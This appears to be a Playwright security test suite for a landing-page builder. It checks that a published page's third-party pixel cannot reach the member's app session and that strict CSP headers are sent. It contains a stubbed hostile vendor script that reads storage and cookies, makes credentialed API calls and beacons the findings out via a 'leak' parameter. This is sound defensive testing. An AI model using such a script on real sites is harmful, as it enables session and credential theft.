import { expect, pagesOriginOf, test } from './fixtures.ts';
import { call, signIn, signUp } from './members.ts';

/**
 * Proof that a member's published page cannot reach the app: a page carries a Facebook pixel
 * whose vendor script (stubbed at the network layer) is hostile. It runs on the pages origin
 * while the member is signed in to the app in the same browser, tries to read tokens, cookies
 * and storage, and to call the API with the member's credentials. Everything fails, and the
 * member's session is untouched.
 */

const PIXEL_ID = '123456789012345';
const PIXEL_SCRIPT = 'https://connect.facebook.net/en_US/fbevents.js';
const REPORT = 'https://www.facebook.com/tr';

/** The hostile vendor script: reports what it could read and what its calls answered. */
function hostileScript(appOrigin: string): string {
  return `(function(){
  var found = { origin: location.origin, local: '', session: '', cookie: '', calls: {} };
  try { found.local = JSON.stringify(Object.assign({}, localStorage)); } catch (e) { found.local = 'error'; }
  try { found.session = JSON.stringify(Object.assign({}, sessionStorage)); } catch (e) { found.session = 'error'; }
  try { found.cookie = document.cookie; } catch (e) { found.cookie = 'error'; }
  function attempt(name, url, init) {
    return fetch(url, init).then(function (answer) {
      return answer.text().then(function (text) { found.calls[name] = 'answered ' + answer.status + ' ' + text.slice(0, 300); });
    }, function (error) { found.calls[name] = 'failed ' + error; });
  }
  var app = ${JSON.stringify(appOrigin)};
  var json = { 'content-type': 'application/json', server: 'true' };
  Promise.all([
    attempt('refresh', app + '/client/user/refresh', { method: 'POST', credentials: 'include', headers: json, body: '{}' }),
    attempt('refreshNoCors', app + '/client/user/refresh', { method: 'POST', mode: 'no-cors', credentials: 'include', body: '{}' }),
    attempt('overview', app + '/client/account/overview', { credentials: 'include' }),
    attempt('userInfo', app + '/client/index/index?requiredLogin=1', { credentials: 'include' }),
    attempt('ownOriginApi', '/client/index/index?requiredLogin=1', { credentials: 'include' }),
    attempt('ownOriginRefresh', '/client/user/refresh', { method: 'POST', credentials: 'include', body: '{}' }),
  ]).then(function () {
    new Image().src = ${JSON.stringify(REPORT)} + '?leak=' + encodeURIComponent(JSON.stringify(found));
  });
  window.fbq = window.fbq || function () {};
})();`;
}

type Found = {
  origin: string;
  local: string;
  session: string;
  cookie: string;
  calls: Record<string, string>;
};

const docWithPixel = () => ({
  version: 1,
  setup: { title: 'Hostile pixel', keywords: '', description: '', backgroundColor: '', backgroundImage: '' },
  modules: [
    { id: 'title1', type: 'title-text', version: 1, props: { content: 'Spring sale' } },
    { id: 'fbpixel1', type: 'facebook-pixel', version: 1, props: { pixelIds: PIXEL_ID } },
  ],
});

test('a hostile pixel on a published page reads no token, cookie or storage of the app and cannot call the API as the member', async ({
  page,
  request,
  baseURL,
  thirdParty,
}) => {
  const base = baseURL ?? '';
  const appOrigin = new URL(base).origin;
  const user = await signUp(request, 'iso', { plan: 'business' });
  const added = await call(request, '/client/page/add', { name: 'Hostile', route: '/' }, user.token);
  expect(added.code, added.msg).toBe(1);
  const id = (added.data as { page: { id: string } }).page.id;
  const saved = await call(request, '/client/page/save', { id, version: 1, doc: docWithPixel() }, user.token);
  expect(saved.code, saved.msg).toBe(1);
  const published = await call(request, '/client/page/publish', { id }, user.token);
  expect(published.code, published.msg).toBe(1);
  // The app shows (and QR-codes) the address on the pages origin.
  expect((published.data as { url: string }).url).toBe(`${pagesOriginOf(base)}/${id}`);

  // The member is signed in to the app in this browser, with a live tab.
  await signIn(page, base, user, 'en');
  await page.goto('/user/account/overview');
  await expect(page.getByTestId('overview-balance')).toHaveText('0.00');
  const cookieBefore = (await page.context().cookies()).find((cookie) => cookie.name === 'ba-refresh');
  expect(cookieBefore?.value).toMatch(/^rt1\./);

  // The visitor (the member, in another tab) opens the page by its old link on the app origin.
  thirdParty.set(PIXEL_SCRIPT, { contentType: 'application/javascript', body: hostileScript(appOrigin) });
  const visitor = await page.context().newPage();
  const report = new Promise<Found>((resolve) => {
    void visitor.route(`${REPORT}**`, async (route) => {
      const leak = new URL(route.request().url()).searchParams.get('leak');
      if (leak) resolve(JSON.parse(leak) as Found);
      await route.fulfill({ status: 200, contentType: 'image/gif', body: '' });
    });
  });
  const violations: string[] = [];
  visitor.on('console', (message) => {
    if (/Content.Security.Policy/i.test(message.text())) violations.push(message.text());
  });
  await visitor.goto(`/${id}`);
  await expect(visitor).toHaveURL(`${pagesOriginOf(base)}/${id}`);
  await expect(visitor.getByText('Spring sale')).toBeVisible();
  // The pixel loads once the page is interactive.
  await visitor.mouse.move(10, 10);
  const found = await report;

  expect(found.origin).toBe(pagesOriginOf(base));
  const readable = `${found.local}${found.session}${found.cookie}`;
  for (const secret of ['eyJ', 'rt1.', 'ba-refresh', 'userInfo', user.token, cookieBefore?.value ?? 'x']) {
    expect(readable).not.toContain(secret);
  }
  for (const [name, outcome] of Object.entries(found.calls)) {
    // Every call failed outright (CSP, CORS) or was answered without the member's data.
    expect(outcome, name).not.toContain(user.username);
    expect(outcome, name).not.toContain('"code":1');
    expect(outcome, name).not.toMatch(/eyJ|rt1\./);
  }
  expect(Object.keys(found.calls).sort()).toEqual(
    ['overview', 'ownOriginApi', 'ownOriginRefresh', 'refresh', 'refreshNoCors', 'userInfo'].sort(),
  );
  // The browser refused the calls to the app by the page's CSP (connect-src), as a header.
  expect(violations.length).toBeGreaterThan(0);

  // Nothing happened to the member's session: the cookie was not rotated, the app tab still works.
  const cookieAfter = (await page.context().cookies()).find((cookie) => cookie.name === 'ba-refresh');
  expect(cookieAfter?.value).toBe(cookieBefore?.value);
  await page.reload();
  await expect(page.getByTestId('overview-balance')).toHaveText('0.00');
});

test('without the CSP, the browser still keeps the app apart: another site gets no cookie and no answer', async ({
  page,
  request,
  baseURL,
}) => {
  const base = baseURL ?? '';
  const user = await signUp(request, 'iso', { plan: 'business' });
  await signIn(page, base, user, 'en');
  await page.goto('/user/account/overview');
  await expect(page.getByTestId('overview-balance')).toHaveText('0.00');
  const before = (await page.context().cookies()).find((cookie) => cookie.name === 'ba-refresh')?.value;

  // A page of the pages origin that sends no CSP (its 404 page), where a script runs freely.
  const other = await page.context().newPage();
  await other.goto(`${pagesOriginOf(base)}/no-such-page`);
  const outcome = await other.evaluate(async (app) => {
    const results: Record<string, string> = {};
    const attempt = async (name: string, url: string, init: RequestInit) => {
      try {
        const answer = await fetch(url, init);
        results[name] = `answered ${answer.status} ${(await answer.text()).slice(0, 200)}`;
      } catch (error) {
        results[name] = `failed ${String(error)}`;
      }
    };
    await attempt('refresh', `${app}/client/user/refresh`, {
      method: 'POST',
      credentials: 'include',
      body: '{}',
    });
    await attempt('refreshNoCors', `${app}/client/user/refresh`, {
      method: 'POST',
      mode: 'no-cors',
      credentials: 'include',
      body: '{}',
    });
    await attempt('overview', `${app}/client/account/overview`, { credentials: 'include' });
    return { results, storage: JSON.stringify({ ...localStorage }), cookie: document.cookie };
  }, new URL(base).origin);

  for (const [name, result] of Object.entries(outcome.results)) {
    expect(result, name).not.toContain('"code":1');
    expect(result, name).not.toContain(user.username);
  }
  expect(`${outcome.storage}${outcome.cookie}`).not.toMatch(/eyJ|rt1\.|ba-refresh|userInfo/);
  // The refresh cookie (SameSite=Strict, another site) was not sent: the session did not rotate.
  const after = (await page.context().cookies()).find((cookie) => cookie.name === 'ba-refresh')?.value;
  expect(after).toBe(before);
  await page.reload();
  await expect(page.getByTestId('overview-balance')).toHaveText('0.00');
});

test('the app, home, pricing and 404 send a strict CSP header and nothing in them breaks under it', async ({
  page,
  request,
  baseURL,
}) => {
  const base = baseURL ?? '';
  const violations: string[] = [];
  page.on('console', (message) => {
    if (/Content.Security.Policy|Refused to (execute|load|apply|connect|frame)/i.test(message.text()))
      violations.push(`${page.url()}: ${message.text()}`);
  });
  page.on('pageerror', (error) => violations.push(`${page.url()}: ${error.message}`));
  for (const path of ['/', '/pricing', '/no-such-page', '/user/login']) {
    const answer = await page.goto(path);
    const policy = (await answer?.allHeaders())?.['content-security-policy'] ?? '';
    expect(policy, path).toMatch(/script-src 'self'( 'sha256-[A-Za-z0-9+/=]+')*;/);
    expect(policy, path).toContain("frame-ancestors 'self'");
    await expect(page.locator('h1').first()).toBeVisible();
  }
  const user = await signUp(request, 'csp', { plan: 'business' });
  const added = await call(request, '/client/page/add', { name: 'CSP', route: '/' }, user.token);
  const id = (added.data as { page: { id: string } }).page.id;
  await signIn(page, base, user, 'en');
  await page.goto('/user/account/overview');
  await expect(page.getByTestId('overview-balance')).toHaveText('0.00');
  await page.goto('/landing-page/page/center');
  await expect(page.getByTestId('page-row')).toHaveCount(1);
  await page.goto(`/landing-page/build/${id}`);
  await expect(page.getByRole('toolbar').first()).toBeVisible();
  expect(violations).toEqual([]);
});
